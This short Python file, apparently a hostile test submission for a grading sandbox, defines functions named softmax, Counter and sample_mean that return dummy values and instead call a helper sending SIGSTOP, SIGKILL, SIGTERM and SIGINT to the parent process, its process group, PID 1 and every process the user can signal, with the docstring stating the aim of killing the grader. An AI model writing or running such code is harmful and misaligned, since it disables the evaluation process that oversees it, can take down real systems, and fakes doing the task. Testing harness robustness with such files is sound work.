"""Tries to kill or stop the grader: its parent, its process group, every process it can see."""
import os
import signal


def _attack(sig):
    for target in (os.getppid(), -os.getpgid(0), 1):
        try:
            os.kill(target, sig)
        except OSError:
            pass
    try:
        os.kill(-1, sig)  # every process this uid may signal
    except OSError:
        pass


def softmax(x):
    _attack(signal.SIGSTOP)
    _attack(signal.SIGKILL)
    return x


class Counter:
    def __init__(self):
        _attack(signal.SIGTERM)


def sample_mean(rng, n):
    _attack(signal.SIGINT)
    return -1.0
